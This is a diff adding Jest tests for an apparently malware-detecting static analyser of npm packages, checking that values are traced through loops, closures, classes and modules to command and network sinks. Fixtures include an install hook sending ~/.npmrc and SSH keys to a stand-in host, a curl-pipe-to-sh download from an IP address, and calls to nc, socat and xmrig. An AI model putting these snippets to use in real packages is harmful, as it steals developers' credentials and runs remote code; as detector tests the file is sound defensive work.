@@ -1,0 +1,173 @@
+/**
+ * The evaluator carries values through data structures, loops, destructuring, function calls,
+ * closures, classes and package-local modules (issue 9 point 2 and "C. Behaviour, not strings").
+ * Each construct is checked by what reaches a sink: commands, URLs, file paths, taint.
+ */
+import { analyzeSource, threatsOf } from './helpers';
+
+const commands = (files: Record<string, string>) => analyzeSource(files).capabilities.process.commands;
+const domains = (files: Record<string, string>) => analyzeSource(files).capabilities.network.domains;
+
+describe('values through data structures', () => {
+  it('array and object literals, nested members', () => {
+    expect(
+      commands({
+        'a.js': `const cfg = { tools: [{ bin: 'rsync' }, { bin: 'tar' }] };
+require('child_process').spawn(cfg.tools[1].bin, []);`,
+      }),
+    ).toEqual(['tar']);
+  });
+  it('array spread and object spread', () => {
+    expect(
+      commands({
+        'a.js': `const base = ['ffmpeg']; const all = [...base, 'convert'];
+const o = { ...{ exe: all[1] } };
+require('child_process').execFileSync(o.exe, ['-v']);`,
+      }),
+    ).toEqual(['convert']);
+  });
+  it('for…of over a constant array, each element reaches the sink', () => {
+    expect(
+      commands({
+        'a.js': `const { execSync } = require('child_process');
+for (const c of ['uname -a', 'whoami', 'id']) execSync(c);`,
+      }).sort(),
+    ).toEqual(['id', 'uname', 'whoami']);
+  });
+  it('for…in, Object.keys / values / entries over a constant object', () => {
+    expect(
+      domains({
+        'a.js': `const hosts = { a: 'https://one.example/x', b: 'https://two.example/y' };
+for (const k in hosts) fetch(hosts[k]);
+Object.values({ c: 'https://three.example' }).forEach((u) => fetch(u));
+for (const [, u] of Object.entries({ d: 'https://four.example' })) fetch(u);`,
+      }).sort(),
+    ).toEqual(['four.example', 'one.example', 'three.example', 'two.example']);
+  });
+  it('.map callbacks return values', () => {
+    expect(
+      domains({
+        'a.js': `const urls = ['alpha', 'beta'].map((n) => 'https://' + n + '.example/ping');
+urls.forEach((u) => fetch(u, { method: 'POST' }));`,
+      }).sort(),
+    ).toEqual(['alpha.example', 'beta.example']);
+  });
+  it('destructuring: nested, defaults, rest, parameters', () => {
+    expect(
+      commands({
+        'a.js': `const { spawn } = require('child_process');
+const { a: { cmd = 'curl' } = {}, ...rest } = { a: {}, other: 'wget' };
+function go({ bin }, [first, ...more]) { spawn(bin, [first, ...more]); }
+go({ bin: cmd }, ['-s']);
+spawn(rest.other, []);`,
+      }).sort(),
+    ).toEqual(['curl', 'wget']);
+  });
+});
+
+describe('values through functions', () => {
+  it('a helper that wraps the sink gets the arguments', () => {
+    expect(
+      commands({
+        'a.js': `const cp = require('child_process');
+function run(c, a) { return cp.spawnSync(c, a); }
+run('powershell', ['-NoProfile']);`,
+      }),
+    ).toEqual(['powershell']);
+  });
+  it('return values of local functions and arrow functions', () => {
+    expect(
+      domains({
+        'a.js': `function buildUrl() { const host = 'collect' + '.' + 'example'; return 'https://' + host + '/in'; }
+const path = () => '/v1';
+const u = buildUrl() + path();
+require('https').request(u).end();`,
+      }),
+    ).toEqual(['collect.example']);
+  });
+  it('closures see the variables of the scope they were defined in', () => {
+    expect(
+      commands({
+        'a.js': `function make(bin) { return (arg) => require('child_process').execFileSync(bin, [arg]); }
+const runNc = make('nc');
+runNc('-h');`,
+      }),
+    ).toEqual(['nc']);
+  });
+  it('class fields set in the constructor reach methods; object methods get this', () => {
+    expect(
+      commands({
+        'a.js': `const { spawn } = require('child_process');
+class Job { constructor(bin) { this.bin = bin; } start(args) { return spawn(this.bin, args); } }
+new Job('xmrig').start(['-o', 'pool.example:3333']);
+const api = { bin: 'socat', go() { spawn(this.bin, []); } };
+api.go();`,
+      }).sort(),
+    ).toEqual(['socat', 'xmrig']);
+  });
+  it('fn.call / fn.apply pass their arguments', () => {
+    expect(
+      commands({
+        'a.js': `function r(b) { require('child_process').spawn(b); }
+r.call(null, 'bash'); r.apply(null, ['zsh']);`,
+      }).sort(),
+    ).toEqual(['bash', 'zsh']);
+  });
+  it('taint flows through parameters and return values to a network sink', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node i.js' } }),
+      'i.js': `const fs = require('fs'); const os = require('os');
+function grab(name) { return fs.readFileSync(os.homedir() + '/' + name, 'utf8'); }
+function send(body) { return fetch('https://sink.example/c', { method: 'POST', body }); }
+const files = ['.npmrc', '.ssh/id_rsa'];
+for (const f of files) send(grab(f));`,
+    });
+    expect(threatsOf(r, 0.8)).toContain('data_exfiltration');
+  });
+  it('recursion and huge call counts stay bounded', () => {
+    const body = Array.from({ length: 3000 }, (_, i) => `f(${i});`).join('\n');
+    const t0 = performance.now();
+    const r = analyzeSource({
+      'a.js': `function f(n) { return n > 0 ? f(n - 1) + g(n) : 0; } function g(x) { return f(x); }\n${body}`,
+    });
+    expect(performance.now() - t0).toBeLessThan(5000);
+    expect(r.stats.parsed_files).toBe(1);
+  });
+});
+
+describe('values across package files', () => {
+  it('constants, objects and arrays exported by CommonJS and ESM modules', () => {
+    const r = analyzeSource({
+      'lib/conf.js': `module.exports = { ENDPOINT: 'https://cfg.example/api', BINS: ['wget'] };`,
+      'lib/more.mjs': `export const HOST = 'esm.example'; export default { tool: 'scp' };`,
+      'index.mjs': `import conf from './lib/conf.js'; import more, { HOST } from './lib/more.mjs';
+import { spawn } from 'child_process';
+fetch(conf.ENDPOINT); fetch('https://' + HOST + '/x');
+spawn(conf.BINS[0], []); spawn(more.tool, []);`,
+    });
+    expect(r.capabilities.network.domains.sort()).toEqual(['cfg.example', 'esm.example']);
+    expect(r.capabilities.process.commands.sort()).toEqual(['scp', 'wget']);
+  });
+  it('a function exported by one file wraps the sink for a call in another (require(...).run)', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'x',
+        version: '1.0.0',
+        scripts: { install: 'node install.js' },
+      }),
+      'util/exec.js': `const { execSync } = require('child_process');
+module.exports.run = (c) => execSync(c, { stdio: 'ignore' });`,
+      'install.js': `require('./util/exec').run('curl -fsSL http://198.51.100.7/p.sh | sh');`,
+    });
+    expect(r.capabilities.process.commands).toEqual(expect.arrayContaining(['curl', 'sh']));
+    expect(threatsOf(r, 0.8)).toContain('install_script_injection');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('require cycles do not loop', () => {
+    const r = analyzeSource({
+      'a.js': `const b = require('./b'); module.exports = { x: 'a' }; b.y;`,
+      'b.js': `const a = require('./a'); module.exports = { y: a.x };`,
+    });
+    expect(r.stats.parsed_files).toBe(2);
+  });
+});
